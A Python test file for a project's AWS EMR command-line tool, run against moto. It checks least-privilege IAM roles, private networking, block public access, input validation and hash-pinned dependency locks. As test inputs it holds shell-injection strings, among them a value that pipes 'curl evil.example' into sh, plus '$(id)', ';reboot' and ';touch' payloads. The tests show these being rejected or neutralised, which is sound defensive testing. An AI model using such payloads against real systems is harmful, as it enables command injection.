"""What the cluster may do and who can reach it (docs/emr.md), through the real CLI against moto's
server: the cluster's own scoped roles (no wildcard action, Resource "*" only where AWS allows
nothing narrower), created idempotently by `emr up --create-roles`; an explicit private network
with security groups that admit nothing from the internet; EMR block public access required;
settings that reach a shell or a URL validated; steps' arguments as lists; hashed locks."""

import json
import os
import subprocess
import urllib.request
from pathlib import Path

import pytest

from fruits_assets.emr import jupyterhub, roles
from fruits_assets.emr.spec import ClusterSpec
from fruits_assets_tests.emr.account import EMR_MANAGED_TAG, cli, emr_env, prepare_account, private_subnet
from fruits_assets_tests.emr_harness.harness import MotoAws

BUCKET = "fruits-assets-privilege-test"
REGION = "eu-west-3"
KMS_KEY = f"arn:aws:kms:{REGION}:111122223333:key/test"  # AWS's documentation placeholder account
EMR_DIR = Path(roles.__file__).resolve().parent
INJECTION = "b;curl evil.example|sh;#"
OPEN = ("0.0.0.0/0", "::/0")


@pytest.fixture(scope="module")
def aws():
    # AWS's managed policies (AmazonEMRServicePolicy_v2) exist in moto's IAM only when asked for,
    # before its backend is made: moto's state lives in this process, so reset it first.
    os.environ["MOTO_IAM_LOAD_MANAGED_POLICIES"] = "true"
    with MotoAws(REGION) as moto:
        urllib.request.urlopen(urllib.request.Request(f"{moto.endpoint}/moto-api/reset", method="POST"))
        moto.client("s3").create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
        moto.subnet = prepare_account(moto)
        yield moto
        urllib.request.urlopen(urllib.request.Request(f"{moto.endpoint}/moto-api/reset", method="POST"))
    os.environ.pop("MOTO_IAM_LOAD_MANAGED_POLICIES")


def env_for(tmp_path, aws, **extra):
    return emr_env(tmp_path, aws, BUCKET, REGION, KMS_KEY, **extra)


def one_line_error(proc, *expected):
    assert proc.returncode == 2, proc.stdout + proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), proc.stderr
    for text in expected:
        assert text in lines[0], proc.stderr


def statements(policy):
    for s in policy["Statement"]:
        actions = [s["Action"]] if isinstance(s["Action"], str) else s["Action"]
        resources = [s["Resource"]] if isinstance(s["Resource"], str) else s["Resource"]
        yield s, actions, resources


# -- roles


def test_roles_have_no_wildcard_action_and_star_only_where_aws_requires_it(tmp_path, aws):
    # A dead endpoint: `emr roles` calls nothing.
    proc = cli(
        ["emr", "roles", "--json"],
        env_for(tmp_path, aws, FRUITS_EMR_JUPYTERHUB="1", AWS_ENDPOINT_URL="http://127.0.0.1:9"),
    )
    assert proc.returncode == 2 and "FRUITS_EMR_JUPYTERHUB_PASSWORD" in proc.stderr  # the hub still needs it
    env = env_for(tmp_path, aws, FRUITS_EMR_JUPYTERHUB="1", FRUITS_EMR_JUPYTERHUB_PASSWORD="not-the-default-0123")
    proc = cli(["emr", "roles", "--json"], dict(env, AWS_ENDPOINT_URL="http://127.0.0.1:9"))
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    for key in ("InstanceRole", "ServiceRole", "CreatorPolicy"):
        policy = doc[key] if key == "CreatorPolicy" else doc[key]["InlinePolicy"]
        for s, actions, resources in statements(policy):
            assert s["Effect"] == "Allow"
            assert not [a for a in actions if "*" in a], (key, s)  # no s3:*, no kms:GenerateDataKey*
            if "*" in resources:
                assert resources == ["*"] and set(actions) <= set(roles.STAR_RESOURCE_ACTIONS), (key, s)
    # AWS's scoped service policy, never the deprecated broad ones
    assert doc["ServiceRole"]["ManagedPolicies"] == [roles.SERVICE_POLICY_V2]
    assert doc["InstanceRole"]["ManagedPolicies"] == []
    assert "AmazonElasticMapReduceforEC2Role" not in proc.stdout and "AmazonElasticMapReduceRole" not in proc.stdout
    # every S3 grant is the project bucket, each prefix with what the nodes do there
    by_sid = {s["Sid"]: s for s, _, _ in statements(doc["InstanceRole"]["InlinePolicy"])}
    bucket = f"arn:aws:s3:::{BUCKET}"
    assert by_sid["NodesReadImagesAndBootstrap"]["Resource"] == [f"{bucket}/raw/*", f"{bucket}/emr/bootstrap/*"]
    assert by_sid["NodesReadImagesAndBootstrap"]["Action"] == ["s3:GetObject"]
    assert by_sid["NodesReadWriteOutputsAndStaging"]["Resource"] == [
        f"{bucket}/assets/*",
        f"{bucket}/emr_staging/*",
        f"{bucket}/jupyter/*",
    ]
    assert by_sid["NodesWriteLogs"]["Resource"] == f"{bucket}/emr/logs/*"
    assert "s3:GetObject" not in by_sid["NodesWriteLogs"]["Action"]
    assert "emr/secrets/jupyterhub-admin" in by_sid["NodesTakeTheJupyterHubPasswordOnce"]["Resource"]
    listed = by_sid["NodesListProjectPrefixes"]["Condition"]["StringLike"]["s3:prefix"]
    assert "raw/*" in listed and "" not in listed and "*" not in listed
    for s, actions, resources in statements(doc["InstanceRole"]["InlinePolicy"]):
        for r in resources:
            assert r == "*" or not r.startswith("arn:aws:s3") or r == bucket or r.startswith(f"{bucket}/"), s
        if any(a.startswith("kms:") for a in actions):
            assert resources == [KMS_KEY]
    # the service role may hand EC2 this instance role only
    [passrole] = [s for s, a, _ in statements(doc["ServiceRole"]["InlinePolicy"]) if a == ["iam:PassRole"]]
    assert passrole["Resource"].endswith(":role/fruits-assets-emr-instance")
    assert passrole["Condition"]["StringEquals"]["iam:PassedToService"] == "ec2.amazonaws.com"
    # the plan runs with them
    plan = json.loads(cli(["emr", "plan", "--json"], env).stdout)["RunJobFlow"]
    assert (plan["ServiceRole"], plan["JobFlowRole"]) == ("fruits-assets-emr-service", "fruits-assets-emr-instance")
    # an alias ARN scopes key usage by kms:ResourceAliases (IAM does not match key operations on aliases)
    alias = cli(
        ["emr", "roles", "--json"], dict(env, FRUITS_EMR_KMS_KEY_ARN=f"arn:aws:kms:{REGION}:111122223333:alias/fruits")
    )
    [kms] = [
        s for s, a, _ in statements(json.loads(alias.stdout)["InstanceRole"]["InlinePolicy"]) if "kms:Decrypt" in a
    ]
    assert kms["Resource"].endswith(":key/*") and kms["Condition"]["ForAnyValue:StringEquals"] == {
        "kms:ResourceAliases": "alias/fruits"
    }


def test_emr_up_create_roles_makes_roles_and_profile_idempotently(tmp_path, aws):
    iam = aws.client("iam")
    env = env_for(tmp_path, aws)
    up = cli(["emr", "up", "--no-wait", "--create-roles"], env)
    assert up.returncode == 0, up.stderr
    assert "created role fruits-assets-emr-instance" in up.stderr and "created instance profile" in up.stderr
    again = cli(["emr", "roles", "--create"], env)  # idempotent: updates, creates nothing
    assert again.returncode == 0, again.stderr
    assert "created" not in again.stdout and "attached" not in again.stdout
    expected = roles.roles_document(ClusterSpec(bucket=BUCKET, region=REGION, kms_key_arn=KMS_KEY))
    for key, service in (("InstanceRole", "ec2.amazonaws.com"), ("ServiceRole", "elasticmapreduce.amazonaws.com")):
        name = expected[key]["RoleName"]
        role = iam.get_role(RoleName=name)["Role"]
        assert role["AssumeRolePolicyDocument"]["Statement"][0]["Principal"] == {"Service": service}
        assert iam.list_role_policies(RoleName=name)["PolicyNames"] == [name]
        inline = iam.get_role_policy(RoleName=name, PolicyName=name)["PolicyDocument"]
        assert inline == expected[key]["InlinePolicy"]
        attached = [p["PolicyArn"] for p in iam.list_attached_role_policies(RoleName=name)["AttachedPolicies"]]
        assert attached == expected[key]["ManagedPolicies"]
    profile = iam.get_instance_profile(InstanceProfileName="fruits-assets-emr-instance")["InstanceProfile"]
    assert [r["RoleName"] for r in profile["Roles"]] == ["fruits-assets-emr-instance"]
    cluster = aws.client("emr").describe_cluster(ClusterId=up.stdout.strip())["Cluster"]
    assert cluster["ServiceRole"] == "fruits-assets-emr-service"
    aws.client("emr").terminate_job_flows(JobFlowIds=[up.stdout.strip()])


# -- network


def ingress_from_anywhere(ec2, group_ids):
    groups = ec2.describe_security_groups(GroupIds=group_ids)["SecurityGroups"]
    return [
        (g["GroupId"], r)
        for g in groups
        for r in g["IpPermissions"]
        if {x["CidrIp"] for x in r.get("IpRanges", [])} & set(OPEN)
        or {x["CidrIpv6"] for x in r.get("Ipv6Ranges", [])} & set(OPEN)
    ]


def test_emr_up_uses_a_private_subnet_and_security_groups_closed_to_the_internet(tmp_path, aws, monkeypatch):
    from fruits_assets.emr.cluster import create_cluster

    env = env_for(tmp_path, aws)
    plan = json.loads(cli(["emr", "plan", "--json"], env).stdout)["RunJobFlow"]["Instances"]
    assert plan["Ec2SubnetIds"] == [aws.subnet]
    assert plan["EmrManagedMasterSecurityGroup"].startswith("<created by emr up")
    assert plan["ServiceAccessSecurityGroup"].startswith("<created by emr up")
    for key in ("FRUITS_S3_BUCKET", "FRUITS_AWS_REGION", "FRUITS_EMR_KMS_KEY_ARN", "FRUITS_EMR_SUBNET_IDS"):
        monkeypatch.setenv(key, env[key])
    emr, ec2 = aws.client("emr"), aws.client("ec2")
    sent = []
    emr.meta.events.register("provide-client-params.emr.RunJobFlow", lambda params, **_: sent.append(params))
    ids = [create_cluster(emr, aws.client("s3"), ClusterSpec.from_env(), wait=False, ec2_client=ec2) for _ in (1, 2)]
    first, second = (r["Instances"] for r in sent)
    groups = [first[k] for k in ("EmrManagedMasterSecurityGroup", "EmrManagedSlaveSecurityGroup")]
    groups.append(first["ServiceAccessSecurityGroup"])
    assert first["Ec2SubnetIds"] == [aws.subnet] and all(g.startswith("sg-") for g in groups)
    assert second == first  # the second `emr up` found the groups the first made
    described = ec2.describe_security_groups(GroupIds=groups)["SecurityGroups"]
    vpc = ec2.describe_subnets(SubnetIds=[aws.subnet])["Subnets"][0]["VpcId"]
    assert {g["VpcId"] for g in described} == {vpc}
    for g in described:
        assert g["IpPermissions"] == []  # no ingress at all: EMR adds the rules between its nodes
        assert EMR_MANAGED_TAG in g["Tags"] and {"Key": "project", "Value": "fruits-assets"} in g["Tags"]
    assert ingress_from_anywhere(ec2, groups) == []
    emr.terminate_job_flows(JobFlowIds=ids)

    # groups given by settings: all three or none, and one open to the internet is refused
    one_line_error(cli(["emr", "plan"], dict(env, FRUITS_EMR_MASTER_SECURITY_GROUP=groups[0])), "FRUITS_EMR_")
    given = dict(
        env,
        FRUITS_EMR_MASTER_SECURITY_GROUP=groups[0],
        FRUITS_EMR_SLAVE_SECURITY_GROUP=groups[1],
        FRUITS_EMR_SERVICE_ACCESS_SECURITY_GROUP=groups[2],
    )
    plan = json.loads(cli(["emr", "plan", "--json"], given).stdout)["RunJobFlow"]["Instances"]
    assert [plan[k] for k in ("EmrManagedMasterSecurityGroup", "ServiceAccessSecurityGroup")] == [groups[0], groups[2]]
    ec2.authorize_security_group_ingress(
        GroupId=groups[0],
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 8998, "ToPort": 8998, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    )
    one_line_error(cli(["emr", "up", "--no-wait"], given), groups[0], "admits the internet")
    ec2.revoke_security_group_ingress(
        GroupId=groups[0],
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 8998, "ToPort": 8998, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    )
    up = cli(["emr", "up", "--no-wait"], given)
    assert up.returncode == 0, up.stderr
    emr.terminate_job_flows(JobFlowIds=[up.stdout.strip()])


def test_emr_up_refuses_the_default_vpc_public_and_untagged_subnets(tmp_path, aws):
    ec2 = aws.client("ec2")
    env = env_for(tmp_path, aws)
    no_subnet = {k: v for k, v in env.items() if k != "FRUITS_EMR_SUBNET_IDS"}
    plan = cli(["emr", "plan", "--json"], no_subnet)
    assert plan.returncode == 0 and "FRUITS_EMR_SUBNET_IDS" in plan.stderr  # a warning: the plan calls nothing
    one_line_error(cli(["emr", "up", "--no-wait"], no_subnet), "FRUITS_EMR_SUBNET_IDS", "FRUITS_EMR_ALLOW_DEFAULT_VPC")
    default_vpc = ec2.describe_vpcs(Filters=[{"Name": "is-default", "Values": ["true"]}])["Vpcs"][0]["VpcId"]
    default_subnets = [
        s["SubnetId"] for s in ec2.describe_subnets(Filters=[{"Name": "vpc-id", "Values": [default_vpc]}])["Subnets"]
    ]
    one_line_error(cli(["emr", "up", "--no-wait"], dict(env, FRUITS_EMR_SUBNET_IDS=default_subnets[0])), "default VPC")
    untagged = private_subnet(aws, "10.43.0.0/16", tagged=False)
    one_line_error(
        cli(["emr", "up", "--no-wait"], dict(env, FRUITS_EMR_SUBNET_IDS=untagged)),
        untagged,
        "for-use-with-amazon-emr-managed-policies=true",
    )
    public = private_subnet(aws, "10.44.0.0/16")
    ec2.modify_subnet_attribute(SubnetId=public, MapPublicIpOnLaunch={"Value": True})
    one_line_error(cli(["emr", "up", "--no-wait"], dict(env, FRUITS_EMR_SUBNET_IDS=public)), public, "public IPs")
    one_line_error(cli(["emr", "plan"], dict(env, FRUITS_EMR_SUBNET_IDS="subnet-1;reboot")), "FRUITS_EMR_SUBNET_IDS")
    # the default VPC only when told to, its subnets tagged for EMR's service policy; no service
    # access group there (EMR uses one in private subnets only)
    allowed = dict(no_subnet, FRUITS_EMR_ALLOW_DEFAULT_VPC="1")
    one_line_error(cli(["emr", "up", "--no-wait"], allowed), "for-use-with-amazon-emr-managed-policies")
    ec2.create_tags(Resources=default_subnets, Tags=[EMR_MANAGED_TAG])
    up = cli(["emr", "up", "--no-wait"], allowed)
    assert up.returncode == 0, up.stderr
    emr = aws.client("emr")
    cluster = emr.describe_cluster(ClusterId=up.stdout.strip())["Cluster"]
    attrs = cluster["Ec2InstanceAttributes"]
    assert (
        ingress_from_anywhere(ec2, [attrs["EmrManagedMasterSecurityGroup"], attrs["EmrManagedSlaveSecurityGroup"]])
        == []
    )
    emr.terminate_job_flows(JobFlowIds=[up.stdout.strip()])
    ec2.delete_tags(Resources=default_subnets, Tags=[EMR_MANAGED_TAG])


def test_emr_up_refuses_an_account_without_block_public_access(tmp_path, aws):
    from moto.emr.models import emr_backends

    from fruits_assets_tests.emr_harness.harness import ACCOUNT

    emr = aws.client("emr")
    env = env_for(tmp_path, aws)
    before = {c["Id"] for c in emr.list_clusters()["Clusters"]}
    # moto's server runs in this process; it may file the account's state under another region
    backends = [b for _, b in emr_backends[ACCOUNT].items()]
    try:
        # moto's PutBlockPublicAccessConfiguration turns False into True (`value or True`): switch
        # it off in its backends; {} is an account where it was never set, off as well.
        for off in (False, None):
            for backend in backends:
                if off is None:
                    backend.block_public_access_configuration = {}
                else:
                    backend.put_block_public_access_configuration(off, [])
            assert not emr.get_block_public_access_configuration()["BlockPublicAccessConfiguration"].get(
                "BlockPublicSecurityGroupRules"
            )
            one_line_error(
                cli(["emr", "up", "--no-wait"], env), "block public access", "FRUITS_EMR_ALLOW_BLOCK_PUBLIC_ACCESS_OFF"
            )
            assert {c["Id"] for c in emr.list_clusters()["Clusters"]} == before
        up = cli(["emr", "up", "--no-wait"], dict(env, FRUITS_EMR_ALLOW_BLOCK_PUBLIC_ACCESS_OFF="1"))
        assert up.returncode == 0, up.stderr
        emr.terminate_job_flows(JobFlowIds=[up.stdout.strip()])
    finally:
        emr.put_block_public_access_configuration(
            BlockPublicAccessConfiguration={"BlockPublicSecurityGroupRules": True}
        )
    assert emr.get_block_public_access_configuration()["BlockPublicAccessConfiguration"][
        "BlockPublicSecurityGroupRules"
    ]


# -- settings that reach a shell or a URL


@pytest.mark.parametrize(
    "bucket", [INJECTION, "ab", "My-Bucket", "my..bucket", "192.168.1.1", "xn--fruits", "fruits-s3alias", "-fruits"]
)
def test_bad_bucket_names_are_one_line_errors_everywhere(tmp_path, aws, bucket):
    env = env_for(tmp_path, aws, FRUITS_S3_BUCKET=bucket)
    for args in (["emr", "plan"], ["emr", "up", "--no-wait"], ["emr", "roles"], ["emr", "policy"], ["s3", "init"]):
        one_line_error(cli(args, env), "FRUITS_S3_BUCKET", "not a valid S3 bucket name")


def test_other_settings_are_validated(tmp_path, aws):
    env = env_for(tmp_path, aws)
    for name, value in (
        ("FRUITS_AWS_REGION", "eu-west-3;id"),
        ("FRUITS_EMR_STAGING_PREFIX", "../elsewhere"),
        ("FRUITS_EMR_STAGING_PREFIX", "a b"),
        ("FRUITS_EMR_KMS_KEY_ARN", f"arn:aws:kms:{REGION}:111122223333:key/x;id"),
        ("FRUITS_EMR_TLS_CERTS_S3", "s3://Bad_Bucket/certs.zip"),
        ("FRUITS_EMR_RELEASE", "emr-7.10.0 --x"),
        ("FRUITS_EMR_KEY_NAME", "key$(id)"),
        ("FRUITS_EMR_LIVY", "maybe"),
    ):
        one_line_error(cli(["emr", "plan"], dict(env, **{name: value})), name)
    # eu-west-3 shaped, still EU-only as before
    one_line_error(cli(["emr", "plan"], dict(env, FRUITS_AWS_REGION="us-east-1")), "outside the EU")
    # a spec built in code is checked too: nothing unchecked reaches a step's shell
    from fruits_assets.settings import SettingsError, instance_type

    with pytest.raises(SettingsError, match="bucket"):
        ClusterSpec(bucket=INJECTION, region=REGION)
    with pytest.raises(SettingsError, match="instance type"):
        instance_type("m5.xlarge;id")


def test_steps_pass_settings_as_list_elements_to_constant_scripts(tmp_path):
    specs = [
        ClusterSpec(bucket=b, region=r, jupyterhub=True, jupyterhub_password="x" * 12)
        for b, r in ((BUCKET, REGION), ("another.bucket-1", "eu-central-1"))
    ]
    for step in (jupyterhub.jupyterhub_password_step, jupyterhub.jupyterhub_kernel_step):
        a, b = (step(s)["HadoopJarStep"]["Args"] for s in specs)
        assert a[:2] == ["bash", "-c"] and a[2] == b[2]  # the script does not depend on settings
        assert BUCKET not in a[2] and BUCKET in a[3:] and REGION not in a[2]
    # Even if a hostile value got past validation, bash would not run it: the scripts read it as
    # "$1" (quoted). Stub aws, sudo and docker record their argv.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("aws", "sudo"):
        (bin_dir / tool).write_text(
            f'#!/bin/bash\nprintf "%s\\n" "{tool}" "$@" >> "{tmp_path}/calls"; cat > /dev/null; echo v1\n'
        )
        (bin_dir / tool).chmod(0o755)
    pwned = tmp_path / "pwned"
    hostile = f"b;touch {pwned};#"
    for script in (jupyterhub.PASSWORD_SCRIPT, jupyterhub.KERNEL_SCRIPT):
        proc = subprocess.run(
            ["bash", "-c", script, "step", hostile, "emr/secrets/jupyterhub-admin"],
            env=dict(os.environ, PATH=f"{bin_dir}:{os.environ['PATH']}"),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            cwd=tmp_path,
        )
        assert proc.returncode == 0, proc.stderr
        assert not pwned.exists()
    calls = (tmp_path / "calls").read_text().splitlines()
    assert hostile in calls  # one argument, as given
    assert "--require-hashes" in calls and f"s3://{hostile}/emr/bootstrap/requirements-notebook.txt" in calls


# -- hashed locks


def requirements(path: Path) -> list[str]:
    """Requirement entries (continuation lines joined), comments dropped."""
    text = path.read_text().replace("\\\n", " ")
    return [line.strip() for line in text.splitlines() if line.strip() and not line.startswith("#")]


def test_locks_pin_and_hash_every_requirement_and_installs_require_hashes():
    from importlib.metadata import version

    for name in ("requirements-pip.txt", "requirements-emr.txt", "requirements-notebook.txt"):
        entries = requirements(EMR_DIR / name)
        assert entries, name
        for entry in entries:
            spec = entry.split()[0]
            assert "==" in spec and not any(c in spec for c in "<>~*"), entry
            assert "--hash=sha256:" in entry, entry
    pinned = {
        e.split()[0].split("==")[0]: e.split()[0].split("==")[1] for e in requirements(EMR_DIR / "requirements-emr.txt")
    }
    # built from the project's own versions: every top-level package at the version this venv tests
    for name in ("dagster", "dagster-aws", "ai-edge-litert", "pyarrow", "pandas", "deltalake", "dagster-pyspark"):
        assert pinned[name] == version(name), f"{name}: run `make emr-requirements`"
    assert "pyspark" not in pinned  # EMR's own pyspark, not PyPI's (bootstrap.sh)
    # every pip install reads a hashed lock, nothing else
    bootstrap = (EMR_DIR / "bootstrap.sh").read_text()
    installs = [line for line in bootstrap.splitlines() if 'pip" install' in line or "pip install" in line]
    assert len(installs) == 2 and all("--require-hashes --no-deps -r " in line for line in installs), installs
    kernel_installs = [c for c in jupyterhub.KERNEL_SCRIPT.split("; ") if "pip install" in c]
    assert len(kernel_installs) == 2 and all("--require-hashes --no-deps -r " in c for c in kernel_installs)
    plan = ClusterSpec(bucket=BUCKET, region=REGION)
    from fruits_assets.emr.cluster import run_job_flow_request

    [action] = run_job_flow_request(plan)["BootstrapActions"]
    assert action["ScriptBootstrapAction"]["Args"] == [
        f"s3://{BUCKET}/emr/bootstrap/requirements-pip.txt",
        f"s3://{BUCKET}/emr/bootstrap/requirements-emr.txt",
    ]
